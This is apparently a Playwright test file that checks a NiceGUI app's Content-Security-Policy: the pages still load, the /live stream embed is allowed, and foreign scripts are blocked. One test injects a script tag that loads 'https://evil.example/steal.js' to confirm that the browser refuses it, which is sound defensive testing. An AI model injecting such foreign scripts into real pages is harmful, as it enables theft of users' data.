"""Issue 19, hardening, in real Chromium: under the app's Content-Security-Policy the pages still
work (NiceGUI's inline start script and Vue's template compiler need 'unsafe-inline' and
'unsafe-eval' in script-src, see features/system/headers.py), the livestream of /live still
loads from the one host the policy allows on that page, and a script from any other host is
refused by the browser.

Every request to another host is answered by the test (Playwright's `route`), nothing reaches the
internet. Violations are collected from the browser's `securitypolicyviolation` events.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import urlparse

from tests.support.browser import LiveApp, connected

COLLECT = """document.addEventListener('securitypolicyviolation',
    (e) => (window.__violations ||= []).push(`${e.effectiveDirective} ${e.blockedURI}`))"""
STUB = "<!doctype html><title>Stream</title><p>Stream</p>"
FOREIGN_SCRIPT = """() => { const s = document.createElement('script');
    s.src = 'https://evil.example/steal.js'; document.head.append(s); }"""


def watched_tab(new_tab: Any, live_app: LiveApp) -> tuple[Any, list[str]]:
    tab = new_tab()
    outside: list[str] = []
    app_host = urlparse(live_app.url).netloc

    def answer(route: Any) -> None:
        outside.append(route.request.url)
        route.fulfill(status=200, content_type="text/html", body=STUB)

    tab.context.route(lambda url: urlparse(url).netloc != app_host, answer)
    tab.add_init_script(COLLECT)
    return tab, outside


def violations(tab: Any) -> list[str]:
    return tab.evaluate("window.__violations || []")


def test_live_page_works_and_plays_the_stream_under_the_policy(live_app: LiveApp, new_tab: Any) -> None:
    tab, outside = watched_tab(new_tab, live_app)
    response = tab.goto(f"{live_app.url}/live")
    assert "frame-ancestors 'self'" in response.headers["content-security-policy"]
    connected(tab)  # NiceGUI's inline script ran, Vue compiled the page, the socket is up
    tab.get_by_label("Ihr Beitrag").fill("Gilt die Richtlinie auch für meinen Beitrag?")
    tab.get_by_role("button", name="Absenden").click()
    tab.locator("li.sg-card", has_text="Gilt die Richtlinie auch für meinen Beitrag?").wait_for()

    with tab.expect_request(lambda request: "youtube-nocookie.com/embed/Stadtkonf01" in request.url):
        tab.get_by_role("button", name="Livestream laden").click()
    tab.locator("iframe[src*='youtube-nocookie.com/embed/Stadtkonf01']").wait_for(state="attached")
    assert violations(tab) == []

    tab.evaluate(FOREIGN_SCRIPT)
    tab.wait_for_function("(window.__violations || []).some((v) => v.includes('evil.example'))")
    assert not [url for url in outside if "evil.example" in url]  # the browser never asked for it


def test_other_pages_work_under_the_policy(live_app: LiveApp, new_tab: Any) -> None:
    tab, _ = watched_tab(new_tab, live_app)
    for path in ("/", "/wall", "/agenda", "/results", "/screen", "/login"):
        tab.goto(f"{live_app.url}{path}")
        connected(tab)
        tab.locator("main, [role=main]").first.wait_for(state="attached")
        assert violations(tab) == [], path
